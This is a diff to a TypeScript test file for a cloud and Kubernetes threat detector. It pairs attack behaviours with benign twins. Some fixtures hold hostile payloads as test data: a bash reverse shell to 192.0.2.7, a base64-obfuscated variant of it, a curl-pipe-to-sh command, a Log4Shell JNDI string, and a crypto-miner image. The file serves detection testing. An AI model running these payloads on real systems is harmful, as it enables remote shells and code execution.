@@ -6,8 +6,12 @@ import { DecodeError } from '../decoder.ts';
 import { createAnalyst } from '../engine.ts';
 import { cloudtrail } from '../receivers/formats/cloudtrail.ts';
 import { kubernetesAudit } from '../receivers/formats/kubernetes-audit.ts';
+import { resolverDns } from '../receivers/formats/resolver-dns.ts';
+import { s3Access } from '../receivers/formats/s3-access.ts';
+import { vpcFlow } from '../receivers/formats/vpc-flow.ts';
 import { tacticName, technique } from './attack.ts';
 import { severityName } from './finding.ts';
+import type { CallRule } from './cloud-call.ts';
 import { createDetectors } from './index.ts';
 
 const detectors = createDetectors();
@@ -142,6 +146,35 @@ const pod = (spec: Record<string, unknown>): Record<string, unknown> => ({
   requestObject: { kind: 'Pod', spec: { containers: [{ name: 'c', image: 'x' }], ...spec } },
 });
 
+const allow = (action: string, resource: string): string =>
+  JSON.stringify({ Statement: [{ Effect: 'Allow', Action: action, Resource: resource }] });
+const flow = (srcaddr: string, dstaddr: string, dstport: number, action = 'ACCEPT'): Event =>
+  vpcFlow.decode({
+    srcaddr,
+    dstaddr,
+    dstport,
+    srcport: 50_000,
+    action,
+    start: 1_772_359_200 + (count += 1),
+    interfaceId: 'eni-1',
+  })!;
+const name = (query: string): Event =>
+  resolverDns.decode({
+    query_name: `${query}.`,
+    query_timestamp: new Date(1.8e12 + (count += 1) * 1000).toISOString(),
+    srcids: { instance: 'i-1' },
+  })!;
+const access = (cipher: string): Event =>
+  s3Access.decode(
+    `owner b [06/Feb/2026:00:00:${10 + ((count += 1) % 40)} +0000] 192.0.2.3 arn:aws:iam::${ACCOUNT}:user/ana R${count} REST.GET.OBJECT k "GET /b/k HTTP/1.1" 200 - 113 113 7 6 "-" "curl/8" - h SigV4 ${cipher} AuthHeader b.s3.amazonaws.com ${cipher === '-' ? '-' : 'TLSv1.3'}`,
+  )!;
+const exec = (executable: string, commandLine: string, parentExecutable = ''): Event => ({
+  id: `x-${(count += 1)}`, timeUs: 1.8e15 + count, layer: 2, process: { executable, arguments: commandLine.split(' '), parentExecutable }, processExec: { filename: executable },
+}); // prettier-ignore
+const asked = (header: string): Event => ({
+  id: `h-${(count += 1)}`, timeUs: 1.8e15 + count, layer: 1, activity: { id: `a-${count}`, kind: 'http.request', name: 'GET /', peerAddress: '198.51.100.9', userAgent: header },
+}); // prettier-ignore
+
 const TWINS: readonly [behaviour: string, rule: string, bad: () => Event[], good: () => Event[]][] = [
   ['trail stopped / started', 'logging-impaired high', () => [call('cloudtrail', 'StopLogging', { name: 't' })], () => [call('cloudtrail', 'StartLogging', { name: 't' })]],
   ['trail narrowed / widened', 'logging-impaired high', () => [call('cloudtrail', 'PutEventSelectors', { trailName: 't', eventSelectors: [{ includeManagementEvents: false }] })], () => [call('cloudtrail', 'PutEventSelectors', { trailName: 't', eventSelectors: [{ includeManagementEvents: true, readWriteType: 'All' }] })]],
@@ -187,13 +220,103 @@ const TWINS: readonly [behaviour: string, rule: string, bad: () => Event[], good
   ['cron job / job', 'cluster-persistence low', () => [request('create', 'cronjobs')], () => [request('create', 'jobs')]],
   ['token by hand / by the kubelet', 'cluster-persistence low', () => [request('create', 'serviceaccounts/token')], () => [request('create', 'serviceaccounts/token', { user: 'system:node:n1', requestObject: { spec: { boundObjectRef: { kind: 'Pod' } } } })]],
   ['system role changed / one’s own', 'cluster-evasion medium', () => [request('patch', 'clusterroles', { object: 'system:node' })], () => [request('patch', 'clusterroles', { object: 'shop-reader' })]],
+  ['rights that lead to all / rights on one bucket', 'iam-backdoor low', () => [call('iam', 'PutUserPolicy', { userName: 'bo', policyDocument: allow('iam:PassRole', '*') })], () => [call('iam', 'PutUserPolicy', { userName: 'bo', policyDocument: allow('s3:GetObject', 'arn:aws:s3:::b/*') })]],
+  ['trusts itself / trusts a service', 'iam-backdoor medium', () => [call('iam', 'UpdateAssumeRolePolicy', { roleName: 'r', policyDocument: trust({ AWS: ANA.arn }) })], () => [call('iam', 'UpdateAssumeRolePolicy', { roleName: 'r', policyDocument: trust({ Service: 'lambda.amazonaws.com' }) })]],
+  ['second factor for another / for oneself', 'iam-backdoor low', () => [call('iam', 'EnableMFADevice', { userName: 'bo' })], () => [call('iam', 'EnableMFADevice', { userName: 'ana' })]],
+  ['key found in public, by AWS itself / any other policy by AWS', 'iam-backdoor high', () => [call('iam', 'AttachUserPolicy', { userName: 'bo', policyArn: 'arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV3' }, { userIdentity: { type: 'AWSService', invokedBy: 'trustedadvisor.amazonaws.com' } })], () => [call('iam', 'AttachUserPolicy', { userName: 'bo', policyArn: 'arn:aws:iam::aws:policy/ReadOnlyAccess' }, { userIdentity: { type: 'AWSService', invokedBy: 'x.amazonaws.com' } })]],
+  ['parts of GuardDuty off / on', 'defence-disabled medium', () => [call('guardduty', 'UpdateDetector', { features: [{ name: 'S3_DATA_EVENTS', status: 'DISABLED' }] })], () => [call('guardduty', 'UpdateDetector', { features: [{ name: 'S3_DATA_EVENTS', status: 'ENABLED' }] })]],
+  ['snapshots may be public / may not', 'defence-disabled medium', () => [call('ec2', 'DisableSnapshotBlockPublicAccess', {})], () => [call('ec2', 'EnableSnapshotBlockPublicAccess', {})]],
+  ['images replaced under their names / not', 'defence-disabled low', () => [call('ecr', 'PutImageTagMutability', { imageTagMutability: 'MUTABLE' })], () => [call('ecr', 'PutImageTagMutability', { imageTagMutability: 'IMMUTABLE' })]],
+  ['machine unprotected / protected', 'defence-disabled low', () => [call('ec2', 'ModifyInstanceAttribute', { instanceId: 'i', disableApiTermination: { value: false } })], () => [call('ec2', 'ModifyInstanceAttribute', { instanceId: 'i', disableApiTermination: { value: true } })]],
+  ['recording narrowed / everything', 'logging-impaired low', () => [call('config', 'PutConfigurationRecorder', { configurationRecorder: { recordingGroup: { allSupported: false } } })], () => [call('config', 'PutConfigurationRecorder', { configurationRecorder: { recordingGroup: { allSupported: true } } })]],
+  ['audit log of a database off / on', 'logging-impaired low', () => [call('rds', 'ModifyDBParameterGroup', { parameters: [{ parameterName: 'pgaudit.log', parameterValue: 'none' }] })], () => [call('rds', 'ModifyDBParameterGroup', { parameters: [{ parameterName: 'pgaudit.log', parameterValue: 'all' }] })]],
+  ['insights of a trail off / on', 'logging-impaired low', () => [call('cloudtrail', 'PutInsightSelectors', { insightSelectors: [] })], () => [call('cloudtrail', 'PutInsightSelectors', { insightSelectors: [{ insightType: 'ApiCallRateInsight' }] })]],
+  ['restored in public / inside', 'data-exposed high', () => [call('rds', 'RestoreDBInstanceToPointInTime', { publiclyAccessible: true })], () => [call('rds', 'RestoreDBInstanceToPointInTime', { publiclyAccessible: false })]],
+  ['events from everybody / from one’s own', 'data-exposed high', () => [call('events', 'PutPermission', { principal: '*' })], () => [call('events', 'PutPermission', { principal: ACCOUNT })]],
+  ['bucket under a foreign key / one’s own', 'data-exposed high', () => [call('s3', 'PutBucketEncryption', { bucketName: 'b', ServerSideEncryptionConfiguration: { Rule: { KMSMasterKeyID: 'arn:aws:kms:eu-west-1:999988887777:key/k' } } })], () => [call('s3', 'PutBucketEncryption', { bucketName: 'b', ServerSideEncryptionConfiguration: { Rule: { KMSMasterKeyID: `arn:aws:kms:eu-west-1:${ACCOUNT}:key/k` } } })]],
+  ['table to a foreign bucket / nothing exported', 'data-exported high', () => [call('dynamodb', 'ExportTableToPointInTime', { tableArn: 't', s3Bucket: 'b', s3BucketOwner: '999988887777' })], () => [call('dynamodb', 'DescribeExport', {})]],
+  ['key for a foreign account / for one’s own role', 'data-exported medium', () => [call('kms', 'CreateGrant', { keyId: 'k', granteePrincipal: 'arn:aws:iam::999988887777:root' })], () => [call('kms', 'CreateGrant', { keyId: 'k', granteePrincipal: `arn:aws:iam::${ACCOUNT}:role/r` })]],
+  ['logs to a foreign account / to one’s own', 'data-exported medium', () => [call('logs', 'PutSubscriptionFilter', { destinationArn: 'arn:aws:logs:eu-west-1:999988887777:destination:d' })], () => [call('logs', 'PutSubscriptionFilter', { destinationArn: `arn:aws:lambda:eu-west-1:${ACCOUNT}:function:f` })]],
+  ['a note for the owner / a page', 'data-destroyed medium', () => [call('s3', 'PutObject', { bucketName: 'b', key: 'HOW_TO_RECOVER_YOUR_FILES.txt' })], () => [call('s3', 'PutObject', { bucketName: 'b', key: 'docs/readme-first.txt' })]],
+  ['function stopped / limited', 'data-destroyed low', () => [call('lambda', 'PutFunctionConcurrency', { functionName: 'f', reservedConcurrentExecutions: 0 })], () => [call('lambda', 'PutFunctionConcurrency', { functionName: 'f', reservedConcurrentExecutions: 10 })]],
+  ['machines ended by a person / by a fleet', 'data-destroyed low', () => [call('ec2', 'TerminateInstances', { instancesSet: { items: [{ instanceId: 'i' }] } })], () => [call('ec2', 'TerminateInstances', { instancesSet: { items: [{ instanceId: 'i' }] } }, { userIdentity: { type: 'AWSService', invokedBy: 'autoscaling.amazonaws.com' } })]],
+  ['traffic of others passed on / not', 'network-opened low', () => [call('ec2', 'ModifyInstanceAttribute', { instanceId: 'i', sourceDestCheck: { value: false } })], () => [call('ec2', 'ModifyInstanceAttribute', { instanceId: 'i', sourceDestCheck: { value: true } })]],
+  ['group changed by hand / by a template', 'network-opened low', () => [call('ec2', 'RevokeSecurityGroupIngress', { groupId: 'g' })], () => [call('ec2', 'RevokeSecurityGroupIngress', { groupId: 'g' }, { userAgent: 'cloudformation.amazonaws.com', userIdentity: { ...ANA, invokedBy: 'cloudformation.amazonaws.com' } })]],
+  ['fifty machines / five', 'compute-hijacked medium', () => [call('autoscaling', 'UpdateAutoScalingGroup', { desiredCapacity: 50 })], () => [call('autoscaling', 'UpdateAutoScalingGroup', { desiredCapacity: 5 })]],
+  ['graphics notebook / small notebook', 'compute-hijacked low', () => [call('sagemaker', 'CreateNotebookInstance', { instanceType: 'ml.p3.8xlarge' })], () => [call('sagemaker', 'CreateNotebookInstance', { instanceType: 'ml.t3.medium' })]],
+  ['function given a role / more memory', 'compute-code low', () => [call('lambda', 'UpdateFunctionConfiguration20150331v2', { functionName: 'f', role: `arn:aws:iam::${ACCOUNT}:role/admin` })], () => [call('lambda', 'UpdateFunctionConfiguration20150331v2', { functionName: 'f', memorySize: 256 })]],
+  ['build with its own instructions / plain build', 'borrowed-role low', () => [call('codebuild', 'StartBuild', { projectName: 'p', buildspecOverride: 'x' })], () => [call('codebuild', 'StartBuild', { projectName: 'p' })]],
+  ['stack under a role / under one’s own', 'borrowed-role low', () => [call('cloudformation', 'CreateStack', { roleARN: `arn:aws:iam::${ACCOUNT}:role/admin` })], () => [call('cloudformation', 'CreateStack', { stackName: 's' })]],
+  ['task on the machine / plain task', 'borrowed-role medium', () => [call('ecs', 'RegisterTaskDefinition', { containerDefinitions: [{ privileged: true }] })], () => [call('ecs', 'RegisterTaskDefinition', { containerDefinitions: [{ image: 'x' }] })]],
+  ['address of root changed / read', 'account-taken medium', () => [call('account', 'StartPrimaryEmailUpdate', {})], () => [call('account', 'GetPrimaryEmail', {})]],
+  ['a system of intruders / an ordinary one', 'attack-tool medium', () => [call('sts', 'GetCallerIdentity', {}, { userAgent: 'aws-cli/2.9 Python/3.11 Linux/6.6-kali-amd64' })], () => [call('sts', 'GetCallerIdentity', {}, { userAgent: 'aws-cli/2.9 Python/3.11 Linux/6.6-amazon' })]],
+  ['root refused / a user refused', 'console-login low', () => [call('signin', 'ConsoleLogin', null, { responseElements: { ConsoleLogin: 'Failure' }, userIdentity: { type: 'Root', arn: `arn:aws:iam::${ACCOUNT}:root` } })], () => [call('signin', 'ConsoleLogin', null, { responseElements: { ConsoleLogin: 'Failure' } })]],
+
+  ['shell to the outside / a plain command', 'pod-purpose high', () => [request('create', 'pods', pod({ containers: [{ name: 'c', image: 'alpine', command: ['sh', '-c', 'bash -i >& /dev/tcp/192.0.2.7/443 0>&1'] }] }))], () => [request('create', 'pods', pod({ containers: [{ name: 'c', image: 'alpine', command: ['sh', '-c', 'exec /app/start --port 8080'] }] }))]],
+  ['miner / a queue worker', 'pod-purpose high', () => [request('create', 'deployments', { requestObject: { spec: { template: { spec: { containers: [{ image: 'registry.example/xmrig:6' }] } } } } })], () => [request('create', 'deployments', { requestObject: { spec: { template: { spec: { containers: [{ image: 'registry.example/worker:6' }] } } } } })]],
+  ['node’s root as a volume / a disk', 'host-level-pod medium', () => [request('create', 'persistentvolumes', { namespace: '', requestObject: { spec: { hostPath: { path: '/etc' } } } })], () => [request('create', 'persistentvolumes', { namespace: '', requestObject: { spec: { csi: { driver: 'ebs.csi.aws.com' } } } })]],
+  ['acts as an administrator / as itself', 'impersonation medium', () => [request('list', 'secrets', { impersonatedUser: { username: 'system:admin' } })], () => [request('list', 'secrets', { impersonatedUser: { username: 'ana@example.org' } })]],
+  ['privileged pods let in / restricted', 'cluster-evasion medium', () => [request('patch', 'namespaces', { requestObject: { metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } } } })], () => [request('patch', 'namespaces', { requestObject: { metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'restricted' } } } })]],
+  ['guard deleted / a service deleted', 'cluster-evasion medium', () => [request('delete', 'daemonsets', { object: 'falco' })], () => [request('delete', 'daemonsets', { object: 'shop' })]],
+  ['code in the web server / a plain host', 'cluster-exposed medium', () => [request('create', 'ingresses', { requestObject: { metadata: { annotations: { 'nginx.ingress.kubernetes.io/configuration-snippet': 'lua' } } } })], () => [request('create', 'ingresses', { requestObject: { spec: { rules: [{ host: 'shop.example' }] } } })]],
+  ['all pods deleted / one', 'cluster-destroyed medium', () => [request('deletecollection', 'pods')], () => [request('delete', 'pods')]],
+  ['gives itself a role / gives it to another', 'rbac-grant medium', () => [request('create', 'rolebindings', { requestObject: { roleRef: { name: 'deployer' }, subjects: [{ kind: 'User', name: 'ana@example.org' }] } })], () => [request('create', 'rolebindings', { requestObject: { roleRef: { name: 'deployer' }, subjects: [{ kind: 'User', name: 'bo@example.org' }] } })]],
+  ['account tied to the cloud / plain account', 'cluster-persistence low', () => [request('patch', 'serviceaccounts', { requestObject: { metadata: { annotations: { 'eks.amazonaws.com/role-arn': 'arn:aws:iam::1:role/r' } } } })], () => [request('patch', 'serviceaccounts', { requestObject: { metadata: { annotations: { team: 'a' } } } })]],
+  ['node’s credential in a hand / in the kubelet', 'credential-in-hand medium', () => [request('list', 'secrets', { user: 'system:node:n1', userAgent: 'kubectl/v1.36' })], () => [request('list', 'secrets', { user: 'system:node:n1', userAgent: 'kubelet/v1.36' })]],
+  ['six things tried / one thing often', 'account-refusals low', () => many(6, (at) => request('get', `things${at}`, { user: 'system:serviceaccount:shop:web', code: 403 })), () => many(9, () => request('get', 'things', { user: 'system:serviceaccount:shop:web', code: 403 }))],
+  ['ten sorts of objects / one sort', 'cluster-explored low', () => many(10, (at) => request('list', `things${at}`)), () => many(30, () => request('list', 'things'))],
+  ['kube-system changed by a person / by its controller', 'cluster-persistence low', () => [request('patch', 'deployments', { namespace: 'kube-system' })], () => [request('patch', 'deployments', { namespace: 'kube-system', user: 'system:serviceaccount:kube-system:deployment-controller' })]],
+
+  ['login reached from the internet / web port', 'reached-from-outside low', () => [flow('198.51.100.9', '10.0.0.4', 22)], () => [flow('198.51.100.9', '10.0.0.4', 443), flow('10.0.0.9', '10.0.0.4', 22), flow('198.51.100.9', '10.0.0.4', 22, 'REJECT')]],
+  ['twenty ports / nineteen', 'port-scan medium', () => many(20, (at) => flow('10.0.0.9', '10.0.0.4', at + 1)), () => many(19, (at) => flow('10.0.0.9', '10.0.0.4', at + 1))],
+  ['names from a stranger / from a known resolver', 'foreign-resolver low', () => [flow('10.0.0.9', '198.51.100.9', 53)], () => [flow('10.0.0.9', '8.8.8.8', 53), flow('10.0.0.9', '10.0.0.2', 53)]],
+  ['mining pool / shop', 'telling-name high', () => [name('eu.minexmr.example.com'), name('pool.supportxmr.com')], () => [name('shop.example.com'), name('monetary.example.com')]],
+  ['thirty long names / twenty-nine', 'data-in-names medium', () => many(30, (at) => name(`${'a'.repeat(40)}${at}.t.example.org`)), () => many(29, (at) => name(`${'a'.repeat(40)}${at}.t.example.org`))],
+  ['object without encryption / with', 'plain-access low', () => [access('-')], () => [access('ECDHE-RSA-AES128-GCM-SHA256')]],
+  ['Java starts a shell / a person does', 'shell-from-server medium', () => [exec('/bin/sh', 'sh -c id', '/usr/bin/java')], () => [exec('/bin/sh', 'sh -c id', '/usr/bin/bash')]],
+  ['fetched and run / fetched and kept', 'telling-command medium', () => [exec('/bin/sh', 'sh -c curl -s https://198.51.100.9/x | sh')], () => [exec('/usr/bin/curl', 'curl -o x.tgz https://example.org/x.tgz'), exec('/bin/sh', 'sh -c curl -s http://127.0.0.1/x | sh')]],
+  ['shell tied to the network / health check', 'telling-command high', () => [exec('/bin/bash', `bash -c {echo,${Buffer.from('bash -i >& /dev/tcp/192.0.2.7/443 0>&1').toString('base64')}}|{base64,-d}|{bash,-i}`)], () => [exec('/bin/bash', 'bash -c exec 3<>/dev/tcp/127.0.0.1/8080')]],
+  ['look-up in a header / a word in a text', 'lookup-injected medium', () => [asked('${${::-j}ndi:ldap://192.0.2.7/a}')], () => [asked('how jndi:ldap look-ups work, ${name}')]],
 ]; // prettier-ignore
 
 describe('behaviours and their benign twins', () => {
   it.each(TWINS)('%s', (_, rule, bad, good) => {
     expect(rules(bad())).toContain(rule);
-    expect(rules(good()).filter((found) => found.startsWith(rule.split(' ')[0]!))).toEqual([]);
+    const [detector = '', severity] = rule.split(' ');
+    // Of what is loud, the twin may be a line; of what is a line, it must be nothing.
+    const allowed = severity === 'low' ? [] : [`${detector} low`];
+    const said = rules(good()).filter((found) => found.startsWith(`${detector} `));
+    expect(said.filter((found) => !allowed.includes(found))).toEqual([]);
   });
+});
+
+/** Calls whose refusal is spoken of by a rule that looks closer. */
+const REFUSED_TOO = new Set(['InvokeModel', 'InvokeModelWithResponseStream', 'Converse', 'ConverseStream']);
+
+describe('calls that say enough by their name', () => {
+  const plain = createDetectors().flatMap((detector) =>
+    ((detector as { rules?: readonly CallRule[] }).rules ?? [])
+      .filter((rule) => rule.service !== undefined && rule.when === undefined)
+      .map((rule) => [detector.id, rule] as const),
+  );
+
+  it('are spoken of when they were let through, by somebody, with techniques of ATT&CK', () => {
+    for (const [id, rule] of plain) {
+      for (const id of rule.techniques ?? []) expect([id, technique(id)?.name]).toEqual([id, expect.any(String)]);
+      for (const called of rule.names) {
+        if (rule.service === '*') continue;
+        const [made, refused] = [
+          call(rule.service, called),
+          call(rule.service, called, {}, { errorCode: 'AccessDenied' }),
+        ];
+        expect([called, told([made]).some((found) => found.rule === id)]).toEqual([called, true]);
+        const asked = plain.some(([other, one]) => other === id && one.names.includes(called) && one.refusedToo);
+        if (!asked && !REFUSED_TOO.has(called))
+          expect([called, told([refused]).some((found) => found.rule === id)]).toEqual([called, false]);
+      }
+    }
+    expect(plain.length).toBeGreaterThan(150);
+  }, 60_000);
 });
 
 it('finds a request once that the API server tells twice, in any order', () => {
